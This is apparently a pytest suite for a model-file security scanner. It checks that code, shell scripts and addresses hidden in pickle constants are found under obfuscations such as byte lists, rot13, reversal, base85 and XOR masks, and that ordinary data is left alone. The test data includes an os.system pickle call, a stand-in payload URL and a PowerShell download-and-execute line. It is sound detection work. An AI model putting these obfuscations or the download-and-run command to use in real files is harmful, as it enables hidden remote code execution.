"""Code and addresses that constants write in numbers, or turned around; and ordinary lists and texts."""

import base64
import codecs
import pickle
import random

import pytest

from fixtures import pickles
from fixtures.reading import Read
from modelaudit.engine.packs.load import load_ruleset
from modelaudit.parsers.base import Searched
from modelaudit.pipeline.scan import scan

CODE = "import os\nos.system('echo demo')\n"
SCRIPT = "#!/bin/sh\necho one\necho two\n"
ADDRESS = "http://x.example/payload/a.bin"
LONG = "# a comment\n" * 500 + CODE

SPELLINGS = {
    "list": lambda text: list(text.encode()),
    "tuple": lambda text: tuple(text.encode()),
    "numbers in text": lambda text: str(list(text.encode())),
    "calls in text": lambda text: "+".join(f"chr({byte})" for byte in text.encode()),
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "reversed": lambda text: text[::-1],
    "reversed bytes": lambda text: text[::-1].encode(),
}


def found(data: bytes) -> tuple[set[str], list[str]]:
    """Kinds of the files in constants, and the texts that patterns judge."""
    read = Read(data)
    hidden = [item.text.value for item in read.items if isinstance(item, Searched) and item.text.role == "decoded"]
    return {blob.kind for blob in read.all("blob") if blob.validated}, hidden


@pytest.mark.parametrize("protocol", [0, 2, 4])
@pytest.mark.parametrize("spelling", SPELLINGS)
def test_code_and_addresses_in_constants(spelling: str, protocol: int) -> None:
    write = SPELLINGS[spelling]
    assert found(pickle.dumps({"a": write(CODE)}, protocol)) == ({"python"}, [])
    assert found(pickle.dumps({"a": write(SCRIPT)}, protocol)) == ({"script"}, [])
    assert found(pickle.dumps({"a": write(ADDRESS)}, protocol)) == (set(), [ADDRESS])


@pytest.mark.parametrize("protocol", [0, 2, 4])
@pytest.mark.parametrize("spelling", ["list", "tuple"])
def test_long_lists_are_followed_through_their_portions(spelling: str, protocol: int) -> None:
    (nested,) = Read(pickle.dumps([SPELLINGS[spelling](LONG), [1, 2]], protocol)).nested
    assert nested.reader.read_at(0, 10_000) == LONG.encode()


def test_a_pickle_in_a_list_of_numbers_is_read() -> None:
    inner = pickles.reduce_call("os", "system", "echo hi", protocol=2)
    (nested,) = Read(pickle.dumps({"a": list(inner)})).nested
    assert nested.reader.read_at(0, 1000) == inner


ORDINARY = {
    "token ids": [random.Random(1).randrange(30_000) for _ in range(3000)],
    "pixels": [random.Random(2).randrange(256) for _ in range(3000)],
    "labels": [n % 10 for n in range(3000)],
    "ages": [random.Random(3).randrange(32, 100) for _ in range(3000)],
    "a sentence in numbers": list(b"A sentence about import duties (and others) is no program at all."),
    "merges": ["t h", "th e", "i n", "in g</w>"] * 20,
    "words": {"tropmi": 1, "vzcbeg": 2, "import": 3, "//:ptth": 4, "uggc://": 5, "chr(": 6},
    "rows": [tuple(range(40, 60)), tuple(range(100, 120))] * 20,
    "numbers in text": "1, 2, 3, 10, 50, 100, 32, 99, 101, 40, 41, 42, 43, 44, 45, 46, 47, 48, 49, 50, 51, 52, 53, 54",
    "JSON": '{"a": [10, 32, 101, 99], "b": "rot13 of import is vzcbeg bf"}',
}


@pytest.mark.parametrize("protocol", [0, 4])
@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_constants_hold_nothing(name: str, protocol: int) -> None:
    assert found(pickle.dumps({"a": ORDINARY[name]}, protocol)) == (set(), [])


def test_constants_that_are_turned_are_told_by_the_core_rules(tmp_path) -> None:
    for name, write in SPELLINGS.items():
        (tmp_path / f"{name}.pkl").write_bytes(pickle.dumps({"a": write(ADDRESS)}))
    report = scan([str(tmp_path)], load_ruleset())
    told = {(finding.rule, finding.severity) for finding in report.findings}
    assert told == {("MA5459", "warning")}
    assert len(report.findings) == len(SPELLINGS)


LAYERS = {
    "base85": lambda data: base64.b85encode(data).decode(),
    "ascii85": lambda data: base64.a85encode(data, adobe=True).decode(),
    "base64 backwards": lambda data: base64.b64encode(data).decode()[::-1],
    "rot13 of base64": lambda data: codecs.encode(base64.b64encode(data).decode(), "rot13"),
    "UTF-16": lambda data: data.decode().encode("utf-16"),
    "UTF-16, least first": lambda data: data.decode().encode("utf-16-le"),
    "UTF-16, most first": lambda data: data.decode().encode("utf-16-be"),
    "a mask": lambda data: bytes(byte ^ 0x21 for byte in data),
    "a mask in base64": lambda data: base64.b64encode(bytes(byte ^ 0x21 for byte in data)).decode(),
}


@pytest.mark.parametrize("way", LAYERS)
def test_code_under_other_encodings(way: str) -> None:
    assert found(pickle.dumps({"a": LAYERS[way](CODE.encode())})) == ({"python"}, [])


@pytest.mark.parametrize("way", LAYERS)
def test_other_texts_under_these_encodings_are_nothing(way: str) -> None:
    text = b"A sentence about import duties (and others) is no program at all."
    assert found(pickle.dumps({"a": LAYERS[way](text)})) == (set(), [])


def test_random_bytes_hold_nothing() -> None:
    choose = random.Random(5)
    data = [choose.randbytes(64) for _ in range(300)]
    assert found(pickle.dumps([data, [one.hex() for one in data], [base64.b64encode(one) for one in data]])) == (
        set(),
        [],
    )


@pytest.mark.parametrize("size", [20, 0x37, 0x44, 0x55])
def test_powershell_behind_the_length_of_a_constant(tmp_path, size: int) -> None:
    command = "IEX (iwr x.y).DownloadString('a')"
    (tmp_path / "m.pkl").write_bytes(pickle.dumps({"a": (command + " " * size)[: max(size, len(command))].encode()}))
    assert ("MA1082", "warning") in {(one.rule, one.severity) for one in scan([str(tmp_path)], load_ruleset()).findings}
